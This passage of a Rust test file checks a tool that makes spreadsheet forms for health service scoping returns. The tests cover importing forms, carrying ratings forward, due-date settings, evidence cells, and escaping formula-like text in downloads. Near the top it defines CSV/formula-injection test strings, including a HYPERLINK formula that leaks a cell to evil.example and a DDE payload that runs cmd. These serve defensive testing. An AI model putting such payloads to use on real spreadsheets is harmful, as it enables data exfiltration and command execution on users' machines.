    assert!(outcome.written.is_empty());
}

#[test]
fn the_data_folder_must_be_a_scoping_data_folder() {
    let dir = common::base_with("");
    let outcome = import_forms(&[dir.path().join("x.xlsx")], dir.path(), true);
    assert_eq!(outcome.failed.len(), 1);
    assert_eq!(outcome.diagnostics[0].code, "E030");
}

/// Text that a spreadsheet would take for a formula, as it could arrive in the data:
/// typed in a return, in a name, or in a note on a form sent back by an area.
const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?leak="&A1,"Click")"#;
const PLUS: &str = "+1+cmd|' /C calc'!A0";
const TABBED: &str = "\t=1+1";
const AT: &str = "@SUM(1+1) & <\"x\">";

/// The base site with formula-like text in names and notes.
fn site_with_formula_text() -> tempfile::TempDir {
    let site = common::site_with("");
    let edit = |rel: &str, from: &str, to: &str| {
        let path = site.path().join(rel);
        let text = std::fs::read_to_string(&path).expect(rel);
        assert!(text.contains(from), "{rel} has no {from:?}");
        std::fs::write(&path, text.replacen(from, to, 1)).expect(rel);
    };
    let yaml = |s: &str| scopemap::model::yaml::quote(s);
    edit(
        "scoping-data/framework.yaml",
        "name: Health Visiting",
        &format!("name: {}", yaml(PLUS)),
    );
    edit(
        "scoping-data/regions/north.yaml",
        "name: Alpha\n",
        &format!("name: {}\n", yaml(AT)),
    );
    edit(
        "scoping-data/returns/2022/north/alpha-ccg.yaml",
        "note: One small team.",
        &format!("note: {}", yaml(HYPERLINK)),
    );
    edit(
        "scoping-data/returns/2022/north/alpha-ccg.yaml",
        "  family-hubs: R",
        &format!("  family-hubs:\n    rating: R\n    note: {}", yaml(TABBED)),
    );
    site
}

#[test]
fn forms_hold_formula_like_text_as_text_and_never_as_formulas() {
    let site = site_with_formula_text();
    let ds = load(site.path());
    let out = tempfile::tempdir().expect("temp dir");
    let form = &write_forms(&ds, 2023, "north", out.path()).expect("forms")[0];

    // The sheets carry no formula at all, so nothing in a form is ever evaluated.
    let mut zip = zip::ZipArchive::new(std::fs::File::open(form).expect("open")).expect("zip");
    for i in 0..zip.len() {
        let mut part = zip.by_index(i).expect("part");
        let name = part.name().expect("name").to_string();
        let mut xml = String::new();
        std::io::Read::read_to_string(&mut part, &mut xml).expect("read");
        assert!(
            !xml.contains("<f>") && !xml.contains("<f "),
            "{name} has a formula"
        );
    }
    // The risky text is there, whole, as string cells.
    let mut wb: Xlsx<_> = open_workbook(form).expect("open form");
    let ratings = wb.worksheet_range("Ratings").expect("Ratings");
    let strings: Vec<&String> = ratings
        .cells()
        .filter_map(|(_, _, v)| match v {
            Data::String(s) => Some(s),
            _ => None,
        })
        .collect();
    assert!(strings.iter().any(|s| *s == PLUS), "{strings:?}");
    assert!(
        strings.iter().any(|s| s.contains(HYPERLINK)),
        "last year's note: {strings:?}"
    );
}

#[test]
fn downloads_are_formula_safe_however_the_text_arrives() {
    let site = site_with_formula_text();
    let ds = load(site.path());
    let blanks = tempfile::tempdir().expect("temp dir");
    let blank = &write_forms(&ds, 2023, "north", blanks.path()).expect("forms")[0];

    // A note typed into a form by the area, imported as its 2023 return.
    let mut fill = fill_all(blank);
    let first = rating_rows(blank)[0].1.clone();
    fill.ratings.get_mut(&first).expect("row").note = Some(AT.to_string());
    let filled_dir = tempfile::tempdir().expect("temp dir");
    let filled = write_form(&ds, 2023, "north", "alphabeta", &fill, filled_dir.path()).expect("f");
    let outcome = import_forms(
        std::slice::from_ref(&filled),
        &site.path().join("scoping-data"),
        false,
    );
    assert_eq!(outcome.written.len(), 1, "{}", render_outcome(&outcome));

    let out = site.path().join("public");
    let (code, log) = common::build(site.path(), &out, scopemap::audience::Audience::Public);
    assert_eq!(code, 0, "{log}");
    let mut reader = csv::Reader::from_path(out.join("data/provision.csv")).expect("csv");
    let headers = reader.headers().expect("headers").clone();
    let column = |name: &str| headers.iter().position(|h| h == name).expect(name);
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("row")).collect();
    let find = |year: &str, area: &str, category: &str| {
        rows.iter()
            .find(|r| {
                &r[column("year")] == year
                    && &r[column("area_id")] == area
                    && &r[column("category_id")] == category
            })
            .unwrap_or_else(|| panic!("no row {year} {area} {category}"))
    };
    let note = column("note");
    assert_eq!(
        &find("2022", "alpha-ccg", "parent-infant")[note],
        format!("'{HYPERLINK}")
    );
    assert_eq!(
        &find("2022", "alpha-ccg", "family-hubs")[note],
        format!("'{TABBED}")
    );
    assert_eq!(
        &find("2023", "alphabeta", &first)[note],
        format!("'{AT}"),
        "the note imported from the form"
    );
    assert_eq!(
        &find("2022", "alpha-ccg", "parent-infant")[column("area_name")],
        format!("'{AT}")
    );
    assert_eq!(
        &find("2022", "alpha-ccg", "health-visiting")[column("category_name")],
        format!("'{PLUS}")
    );
    // Numbers stay numbers; no cell anywhere starts as a formula would.
    assert!(rows.iter().all(|r| matches!(&r[0], "2022" | "2023")));
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?} in {row:?}"
            );
        }
    }
    // The JSON download holds the text as it is: JSON is not opened as a spreadsheet.
    let json = std::fs::read_to_string(out.join("data/provision.json")).expect("json");
    assert!(json.contains(&serde_json::to_string(HYPERLINK).expect("json")));
}

#[test]
fn next_years_forms_show_the_last_confirmed_ratings_never_a_copy_or_a_draft() {
    let dir = common::base_with("");
    let alpha = dir
        .path()
        .join("scoping-data/returns/2022/north/alpha-ccg.yaml");
    let text = std::fs::read_to_string(&alpha).expect("alpha");
    let drafted = text.replace(
        "  health-visiting: G\n",
        "  health-visiting:\n    rating: G\n    note: A draft note.\n    draft: true\n",
    );
    assert_ne!(drafted, text);
    std::fs::write(&alpha, drafted).expect("write");
    for year in [2023, 2024] {
        let mut out = Vec::new();
        let code = scopemap::commands::new_year_command(dir.path(), year, "north", &mut out);
        assert_eq!(code, 0, "{}", String::from_utf8_lossy(&out));
    }
    let ds = load(dir.path());
    let forms = tempfile::tempdir().expect("temp dir");
    let form = &write_forms(&ds, 2024, "north", forms.path()).expect("forms")[0];
    assert_eq!(cell(form, "Ratings", 4, 3), "Last rating and note (2022)");
    let last: Vec<(String, String)> = rating_rows(form)
        .into_iter()
        .map(|(row, id)| (id, cell(form, "Ratings", row, 3)))
        .collect();
    assert_eq!(
        last,
        [
            (
                "parent-infant".to_string(),
                "Alpha: A; Beta: R\nNote (Alpha): One small team.".to_string()
            ),
            ("health-visiting".to_string(), "Beta: G".to_string()),
            ("family-hubs".to_string(), "Alpha: R; Beta: B".to_string()),
        ],
        "the 2023 file awaiting its form is not a last rating, and the draft is left out"
    );
}

#[test]
fn next_years_returns_and_forms_carry_no_draft_note() {
    let dir = common::base_with("");
    let returns = dir.path().join("scoping-data/returns/2022/north");
    let edit = |file: &str, from: &str, to: &str| {
        let path = returns.join(file);
        let text = std::fs::read_to_string(&path).expect("return");
        assert!(text.contains(from), "{text}");
        std::fs::write(&path, text.replace(from, to)).expect("write");
    };
    // Alpha's health visiting and Beta's parent-infant rating are drafts with notes.
    edit(
        "alpha-ccg.yaml",
        "  health-visiting: G\n",
        "  health-visiting:\n    rating: G\n    note: Draft note of Alpha.\n    draft: true\n",
    );
    edit(
        "beta-ccg.yaml",
        "  parent-infant: R\n",
        "  parent-infant:\n    rating: R\n    note: Draft note of Beta.\n    draft: true\n",
    );
    let mut out = Vec::new();
    let code = scopemap::commands::new_year_command(dir.path(), 2023, "north", &mut out);
    assert_eq!(code, 0, "{}", String::from_utf8_lossy(&out));
    let scaffold = std::fs::read_to_string(
        dir.path()
            .join("scoping-data/returns/2023/north/alphabeta.yaml"),
    )
    .expect("scaffold");
    assert!(!scaffold.contains("Draft note"), "{scaffold}");
    // Only the confirmed ratings are carried forward: Alpha's A (with its note) and Beta's G.
    assert!(
        scaffold.contains("  parent-infant:\n    rating: \"A\"\n    note: \"One small team.\"\n"),
        "{scaffold}"
    );
    assert!(
        scaffold.contains("  health-visiting:\n    rating: \"G\"\n    carried_forward: true\n"),
        "{scaffold}"
    );

    let ds = load(dir.path());
    let forms = tempfile::tempdir().expect("temp dir");
    let form = &write_forms(&ds, 2023, "north", forms.path()).expect("forms")[0];
    let mut wb: Xlsx<_> = open_workbook(form).expect("open form");
    let mut texts = Vec::new();
    for name in wb.sheet_names() {
        let range = wb.worksheet_range(&name).expect("sheet");
        texts.extend(range.used_cells().map(|(_, _, v)| v.to_string()));
    }
    assert!(!texts.is_empty());
    assert!(
        texts.iter().all(|t| !t.contains("Draft note")),
        "{:?}",
        texts
            .iter()
            .filter(|t| t.contains("Draft"))
            .collect::<Vec<_>>()
    );
    let last: Vec<(String, String)> = rating_rows(form)
        .into_iter()
        .map(|(row, id)| (id, cell(form, "Ratings", row, 3)))
        .collect();
    assert_eq!(
        last[0],
        (
            "parent-infant".to_string(),
            "Alpha: A\nNote (Alpha): One small team.".to_string()
        )
    );
    assert_eq!(
        last[1],
        ("health-visiting".to_string(), "Beta: G".to_string())
    );
}

/// `scopemap forms` on the base fixture with `extra` appended to its scopemap.yaml: the
/// exit code, what it printed, and the Instructions and Ratings guide of the Alpha/Beta form.
fn forms_with_settings(extra: &str) -> (i32, String, Vec<String>) {
    let dir = common::base_with("");
    let settings = dir.path().join("scopemap.yaml");
    let mut text = std::fs::read_to_string(&settings).expect("settings");
    text.push_str(extra);
    std::fs::write(&settings, text).expect("write settings");
    let out_dir = dir.path().join("forms");
    let mut out = Vec::new();
    let code =
        scopemap::commands::forms_command(dir.path(), 2023, "north", &[], &out_dir, &mut out);
    let printed = String::from_utf8(out).expect("utf-8");
    let form = out_dir.join("2023-north-alphabeta.xlsx");
    let mut texts = Vec::new();
    if form.exists() {
        let mut wb: Xlsx<_> = open_workbook(&form).expect("open form");
        let range = wb.worksheet_range("Instructions").expect("sheet");
        texts.extend(range.used_cells().filter_map(|(_, _, v)| match v {
            Data::String(s) => Some(s.clone()),
            _ => None,
        }));
        texts.push(cell(&form, "Ratings", 3, 0));
    }
    (code, printed, texts)
}

#[test]
fn forms_name_the_contact_and_due_date_from_the_settings_and_nothing_without_them() {
    let (code, printed, texts) = forms_with_settings(
        "returns:\n  contact: \"Jo Bloggs, network manager, jo.bloggs@example.org\"\n  due: \"2023-06-30\"\n",
    );
    assert_eq!(code, 0, "{printed}");
    let all = texts.join("\n");
    assert!(texts.iter().any(|t| t == "When it is due"), "{all}");
    assert!(
        texts
            .iter()
            .any(|t| t == "Please send the completed form back by 30 June 2023 (2023-06-30)."),
        "{all}"
    );
    assert!(
        texts.iter().any(|t| t
            == "The network contact for this form: Jo Bloggs, network manager, jo.bloggs@example.org."),
        "{all}"
    );
    let guide = texts.last().expect("guide");
    assert!(
        guide.ends_with(
            " Due back by 30 June 2023 (2023-06-30). Network contact: Jo Bloggs, network manager, jo.bloggs@example.org."
        ),
        "{guide}"
    );

    // No settings: no due date, no contact, nothing in their place.
    let (code, printed, texts) = forms_with_settings("");
    assert_eq!(code, 0, "{printed}");
    let all = texts.join("\n");
    assert!(!all.contains("due") && !all.contains("Due"), "{all}");
    assert!(!all.contains("contact"), "{all}");
    assert!(texts.iter().any(|t| t == "How to send it back"), "{all}");
}

#[test]
fn a_wrong_due_date_or_misspelt_setting_stops_the_forms() {
    let cases = [
        (
            "returns:\n  due: \"30/06/2023\"\n",
            "error[E028]: `30/06/2023` is not a valid date for `returns.due`",
        ),
        (
            "returns:\n  contact: \"  \"\n",
            "error[E025]: `returns.contact` is empty",
        ),
        ("returns:\n  due_date: \"2023-06-30\"\n", "error[E003]"),
        (
            "returns:\n  due: \"2022-06-30\"\n",
            "error: `returns.due` in scopemap.yaml is 2022-06-30, before 2023",
        ),
    ];
    for (extra, expected) in cases {
        let (code, printed, texts) = forms_with_settings(extra);
        assert_ne!(code, 0, "{extra}: {printed}");
        assert!(printed.contains(expected), "{extra}: {printed}");
        assert!(texts.is_empty(), "{extra}: no form is written");
    }
}

#[test]
fn evidence_cells_offer_the_areas_services_by_name_and_import_their_ids() {
    let dir = shipped_copy();
    let ds = load(dir.path());
    let cm = "cheshire-and-merseyside";
    let blanks = tempfile::tempdir().expect("temp dir");
    let blank =
        write_form(&ds, 2023, cm, "halton", &FormFill::default(), blanks.path()).expect("form");
    let rows = rating_rows(&blank);

    // The choices: every service the directory lists for Halton, for Halton CCG (which
    // Halton succeeds) or for the whole region, by name, in order, in column F of the
    // About sheet.
    let mut expected: Vec<(String, String)> = ds
        .services()
        .iter()
        .map(|s| &s.value)
        .filter(|s| {
            s.areas
                .iter()
                .any(|a| a.value == "halton" || a.value == "halton-ccg")
                || s.regions.iter().any(|r| r.value == cm)
        })
        .map(|s| (s.name.value.clone(), s.id.value.clone()))
        .collect();
    expected.sort();
    let names: Vec<String> = (0..expected.len() as u32 + 1)
        .map(|row| cell(&blank, "About", row, 5))
        .collect();
    let mut wanted: Vec<String> = expected.iter().map(|(n, _)| n.clone()).collect();
    wanted.push(String::new());
    assert_eq!(names, wanted);
    assert!(
        wanted.contains(&"Baby and Infant Bonding Support".to_string()),
        "{wanted:?}"
    );
    let choices = rating_choices(&blank);
    let last = rows.last().expect("rows").0 + 1;
    assert_eq!(
        choices[&format!("G6:I{last}")],
        format!("About!$F$1:$F${}", expected.len())
    );
    assert_eq!(
        cell(&blank, "Ratings", 4, 6),
        "Evidence: a service (optional)"
    );

    // Names chosen are imported as ids, in order, each once.
    let mut fill = fill_all(&blank);
    let (first, second) = (&expected[0], &expected[1]);
    fill.evidence.insert(
        rows[0].1.clone(),
        vec![second.0.clone(), first.0.clone(), second.0.clone()],
    );
    let filled_dir = tempfile::tempdir().expect("temp dir");
    let form = write_form(&ds, 2023, cm, "halton", &fill, filled_dir.path()).expect("form");
    let data_dir = dir.path().join("scoping-data");
    let outcome = import_forms(std::slice::from_ref(&form), &data_dir, false);
    assert!(errors(&outcome).is_empty(), "{}", render_outcome(&outcome));
    let (after, diagnostics) = check_data(dir.path());
    assert!(diagnostics.iter().all(|d| !d.is_error()), "{diagnostics:?}");
    let ret = after
        .returns
        .iter()
        .map(|r| &r.value)
        .find(|r| r.year.value == 2023 && r.area.value == "halton")
        .expect("imported");
    let evidence: Vec<&str> = ret
        .rating(&rows[0].1)
        .expect("rated")
        .evidence
        .iter()
        .map(|e| e.value.as_str())
        .collect();
    assert_eq!(evidence, [second.1.as_str(), first.1.as_str()]);
    assert!(ret.rating(&rows[1].1).expect("rated").evidence.is_empty());

    // A name the form did not offer is an error at its cell, with the name meant.
    let mut fill = fill_all(&blank);
    fill.evidence.insert(
        rows[1].1.clone(),
        vec![String::new(), "Baby and Infant Bonding Suport".into()],
    );
    let form = write_form(&ds, 2023, cm, "halton", &fill, filled_dir.path()).expect("form");
    let outcome = import_forms_with(std::slice::from_ref(&form), &data_dir, false, true);
    let errs = errors(&outcome);
    assert_eq!(errs.len(), 1, "{}", render_outcome(&outcome));
    assert_eq!(errs[0].code, "E183");
    assert_eq!(
        errs[0].message,
        format!(
            "Ratings!H{}: `Baby and Infant Bonding Suport` is not a service the directory lists for the form's area",
            rows[1].0 + 1
        )
    );
    assert!(
        errs[0]
            .help
            .as_deref()
            .unwrap_or("")
            .starts_with("did you mean “Baby and Infant Bonding Support”?"),
        "{:?}",
        errs[0]
    );
    assert!(outcome.written.is_empty());
}

#[test]
fn a_last_rating_written_in_lower_case_shows_as_its_level() {
    let dir = shipped_copy();
    let halton = dir
        .path()
        .join("scoping-data/returns/2022/cheshire-and-merseyside/halton-ccg.yaml");
    let text = std::fs::read_to_string(&halton).expect("halton");
    let lower = text.replace("  health-visiting: G\n", "  health-visiting: \" g\"\n");
    assert_ne!(lower, text);
    std::fs::write(&halton, lower).expect("write");
    let ds = load(dir.path());
    let out = tempfile::tempdir().expect("temp dir");
    let files = write_forms(&ds, 2023, "cheshire-and-merseyside", out.path()).expect("forms");
    let form = files
        .iter()
        .find(|f| f.ends_with("2023-cheshire-and-merseyside-halton.xlsx"))
        .expect("Halton's form");
    let row = rating_rows(form)
        .into_iter()
        .find(|(_, id)| id == "health-visiting")
        .map(|(row, _)| row)
        .expect("a health visiting row");
    assert_eq!(cell(form, "Ratings", row, 3), "Halton: G");
}
